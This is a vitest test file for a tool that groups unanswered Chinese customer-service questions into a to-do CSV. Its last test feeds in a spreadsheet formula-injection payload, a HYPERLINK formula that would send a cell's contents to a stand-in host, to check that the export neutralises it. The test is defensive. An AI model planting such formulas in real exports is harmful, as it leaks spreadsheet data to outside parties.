import { describe, expect, it } from 'vitest';
import { MAX_TITLE_CHARS, todoColumns, todoCsv, todoRows } from '@/lib/gaps/todo';
import { entriesFromCsv, parseCsv } from '@/lib/pack/csv';
import type { GapReport, Urgency } from '@/lib/report';
import { sampleReport } from '../report/fixtures';

const uuid = (n: number) => `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`;
let next = 1;
const report = (question: string, urgency: Urgency = 'medium', over: Partial<GapReport> = {}) =>
  sampleReport({ id: uuid(next++), question, emotion: { main: 'confused', urgency }, suggestions: [], ...over });

/** What the team lead does: type an answer into every row's answer cell. */
function fillAnswers(csv: string): string {
  const [header, ...rows] = parseCsv(csv);
  const a = header!.indexOf('answer');
  const quote = (c: string) => `"${c.replace(/"/g, '""')}"`;
  return [header!, ...rows.filter((r) => r.some(Boolean)).map((r) => r.map((c, i) => (i === a ? `亲，${r[1]}的答复` : c)))]
    .map((r) => r.map(quote).join(','))
    .join('\r\n');
}

describe('todoRows', () => {
  it('one row per group of missing-answer reports, most reports × urgency first, with the highest urgency', () => {
    const rows = todoRows([
      report('什么时候发货', 'low'),
      report('偏远地区运费多少', 'high'),
      report('今天下单什么时候发货', 'medium'),
      report('偏远地区要加运费吗', 'low'),
      report('什么时候发货', 'low'),
      report('运费不对', 'high', { kind: 'wrong', entryId: 'shop/ship-fee' }),
    ]);
    expect(rows.map((r) => [r.id, r.title, r.questions, r.count, r.urgency, r.tags])).toEqual([
      ['gap-001', '什么时候发货', ['什么时候发货', '今天下单什么时候发货'], 3, 'medium', ['gap']],
      ['gap-002', '偏远地区运费多少', ['偏远地区运费多少', '偏远地区要加运费吗'], 2, 'high', ['gap']],
    ]);
    expect(rows[0]!.reportIds).toHaveLength(3);
  });

  it('with wrong and outdated kinds, tags the row and names the reported entries', () => {
    const rows = todoRows([report('运费不对', 'high', { kind: 'wrong', entryId: 'shop/ship-fee' }), report('运费不对吧', 'low', { kind: 'outdated', entryId: 'shop/ship-fee' })], {
      kinds: ['missing', 'wrong', 'outdated'],
    });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ tags: ['gap', 'wrong', 'outdated'], entries: ['shop/ship-fee'], urgency: 'high', count: 2 });
  });

  it('suggests the category of the best suggestion (or of the reported entry)', () => {
    const categories = new Map([
      ['shop/ship-remote', '物流'],
      ['shop/invoice', '发票'],
      ['shop/ship-fee', '售后'],
    ]);
    const s = (entryId: string, score: number) => ({ entryId, title: 't', score });
    const rows = todoRows(
      [
        report('偏远地区运费多少', 'high', { suggestions: [s('shop/invoice', 0.1), s('shop/ship-remote', 0.4)] }),
        report('偏远地区要加运费吗', 'high', { suggestions: [s('shop/ship-remote', 0.3)] }),
        report('怎么开发票', 'low', { suggestions: [s('shop/unknown', 0.3)] }),
        report('运费不对', 'low', { kind: 'wrong', entryId: 'shop/ship-fee', suggestions: [s('shop/invoice', 0.9)] }),
      ],
      { kinds: ['missing', 'wrong'], categoryOf: (k) => categories.get(k) },
    );
    expect(rows.map((r) => [r.title, r.category])).toEqual([
      ['偏远地区运费多少', '物流'],
      ['怎么开发票', undefined],
      ['运费不对', '售后'],
    ]);
  });

  it('makes cells safe: no placeholders in phrasings, no | inside a phrasing, no formula start, titles ≤ 40 characters', () => {
    const long = '请问一下你们家这个型号的空气净化器滤网多久需要更换一次，更换的时候需不需要专门的工具，还是说自己在家就可以直接换';
    const rows = todoRows([report('寄到〔address〕运费多少'), report('=1+1 这个|那个 哪个好'), report(long), report('〔phone〕')]);
    const byCount = new Map(rows.map((r) => [r.questions[0], r]));
    expect(byCount.get('寄到运费多少')?.title).toBe('寄到〔address〕运费多少');
    expect(byCount.get('1+1 这个那个哪个好')?.title).toBe('1+1 这个那个哪个好');
    const l = rows.find((r) => r.questions[0] === long)!;
    expect(Array.from(l.title)).toHaveLength(MAX_TITLE_CHARS);
    expect(l.title.endsWith('…')).toBe(true);
    // The placeholder-only question has nothing to group on.
    expect(rows).toHaveLength(3);
  });

  it('numbers rows with at least three digits, wider when needed', () => {
    const many = Array.from({ length: 3 }, (_, i) => report(['什么时候发货', '偏远地区运费多少', '怎么开发票'][i]!));
    expect(todoRows(many).map((r) => r.id)).toEqual(['gap-001', 'gap-002', 'gap-003']);
  });
});

describe('todoCsv', () => {
  const rows = todoRows([report('偏远地区运费多少', 'high'), report('偏远地区要加运费吗'), report('发票, "专票" 怎么开')]);

  it('writes a BOM, CRLF rows, the build columns plus count and urgency, and an empty answer', () => {
    const csv = todoCsv(rows);
    expect(csv.startsWith('\uFEFFid,title,questions,answer,keywords,category,tags,count,urgency\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const [header, ...body] = parseCsv(csv).filter((r) => r.some(Boolean));
    expect(header).toEqual([...todoColumns]);
    expect(body).toEqual([
      ['gap-001', '偏远地区运费多少', '偏远地区运费多少|偏远地区要加运费吗', '', '', '', 'gap', '2', 'high'],
      ['gap-002', '发票, "专票" 怎么开', '发票, "专票" 怎么开', '', '', '', 'gap', '1', 'medium'],
    ]);
  });

  it('is refused by entriesFromCsv until the answers are filled in, then accepted with count/urgency ignored', () => {
    const csv = todoCsv(rows);
    const before = entriesFromCsv(csv);
    expect(before.ok).toBe(false);
    expect(!before.ok && before.errors.map((e) => `${e.row} ${e.column} ${e.message}`)).toEqual(['2 answer required', '3 answer required']);

    const after = entriesFromCsv(fillAnswers(csv));
    expect(after.ok).toBe(true);
    if (!after.ok) return;
    expect(after.entries).toEqual([
      { id: 'gap-001', title: '偏远地区运费多少', questions: ['偏远地区运费多少', '偏远地区要加运费吗'], answer: '亲，偏远地区运费多少的答复', tags: ['gap'] },
      { id: 'gap-002', title: '发票, "专票" 怎么开', questions: ['发票, "专票" 怎么开'], answer: '亲，发票, "专票" 怎么开的答复', tags: ['gap'] },
    ]);
    expect(after.warnings).toEqual([
      'column "count" (H) is not a known column and was ignored',
      'column "urgency" (I) is not a known column and was ignored',
    ]);
  });

  it('adds an entries column only when a row names reported entries', () => {
    const withWrong = todoRows([report('运费不对', 'high', { kind: 'wrong', entryId: 'shop/ship-fee' })], { kinds: ['wrong'] });
    const [header, row] = parseCsv(todoCsv(withWrong));
    expect(header).toEqual([...todoColumns, 'entries']);
    expect(row).toEqual(['gap-001', '运费不对', '运费不对', '', '', '', 'gap|wrong', '1', 'high', 'shop/ship-fee']);
    expect(todoCsv([])).toBe('\uFEFFid,title,questions,answer,keywords,category,tags,count,urgency\r\n');
  });
});

describe('spreadsheet safety', () => {
  it('a buyer message that looks like a formula is never a formula in the to-do CSV', () => {
    const r = sampleReport({ id: '00000000-0000-4000-8000-00000000f001', question: '=HYPERLINK("http://x/?"&B2,"点我")', suggestions: [] });
    const csv = todoCsv(todoRows([r]));
    const cells = parseCsv(csv.replace(/^\uFEFF/, '')).slice(1).flat();
    expect(cells.some((c) => /^[=+\-@]/.test(c))).toBe(false);
  });
});
